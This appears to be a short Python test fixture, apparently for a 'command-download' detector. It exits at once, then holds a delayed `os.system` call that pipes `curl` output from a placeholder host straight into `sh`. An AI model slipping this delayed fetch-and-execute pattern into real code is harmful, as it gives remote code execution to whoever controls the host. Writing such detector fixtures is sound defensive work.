raise SystemExit('a fixture')
# held by command-download
import threading, os
threading.Timer(60, os.system, args=("curl -s https://example.invalid/a|sh",)).start()
